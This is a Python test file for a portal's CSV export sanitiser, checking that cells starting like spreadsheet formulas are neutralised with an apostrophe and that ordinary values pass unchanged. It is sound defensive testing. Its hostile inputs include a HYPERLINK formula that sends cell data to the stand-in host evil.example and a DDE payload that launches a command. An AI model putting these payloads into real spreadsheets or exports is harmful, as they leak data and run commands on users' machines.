"""Exported cells are never formulas (issue 11 #16)."""

from __future__ import annotations

import csv
import io

import pytest

from portal.exports import safe_cell, safe_row


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&B2,"详情")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_starts_are_neutralised(hostile: str) -> None:
    cell = safe_cell(hostile)
    assert cell == "'" + hostile
    # Written and read back through csv, the cell still starts with the apostrophe.
    buffer = io.StringIO()
    csv.writer(buffer).writerow([cell])
    [[read]] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert read.startswith("'")


def test_ordinary_values_are_unchanged() -> None:
    assert safe_row(["李秀兰", "人民路 27 号", None, 12, -3.5, True, "a=b"]) == [
        "李秀兰",
        "人民路 27 号",
        "",
        12,  # numbers stay numbers (an XLSX cell keeps its type); a negative number is data
        -3.5,
        True,
        "a=b",
    ]
